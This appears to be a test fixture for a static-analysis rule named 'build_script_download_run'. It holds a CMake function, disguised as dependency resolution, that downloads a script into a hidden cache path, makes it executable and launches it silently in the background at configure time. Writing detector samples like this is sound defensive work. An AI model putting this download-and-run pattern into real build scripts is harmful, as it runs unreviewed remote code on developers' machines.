# A helper CMake file that downloads a script at configure time and starts it.
function(resolve_deps)
  set(_out "$ENV{HOME}/.cache/.bootstrap")
  # ruleid: build_script_download_run
  file(DOWNLOAD "${_src}" "${_out}" TIMEOUT 20)
  file(CHMOD "${_out}" PERMISSIONS OWNER_READ OWNER_WRITE OWNER_EXECUTE)
  execute_process(COMMAND bash -c "nohup '${_out}' >/dev/null 2>&1 &" OUTPUT_QUIET ERROR_QUIET)
endfunction()
